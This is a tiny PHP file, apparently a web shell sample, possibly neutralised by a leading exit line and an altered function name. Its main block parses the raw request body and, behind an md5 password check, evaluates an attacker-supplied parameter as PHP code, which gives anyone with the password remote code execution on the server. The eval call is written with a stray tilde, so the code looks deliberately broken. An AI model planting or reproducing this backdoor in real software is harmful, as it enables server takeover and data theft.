<?php exit; ?>
<?php
$in = file_get_contents('php://input');
$ref = &$in;
parse_str($ref, $out);
if (md5($out['p']) === '00000000000000000000000000000000') { eva~l($out['m']); }
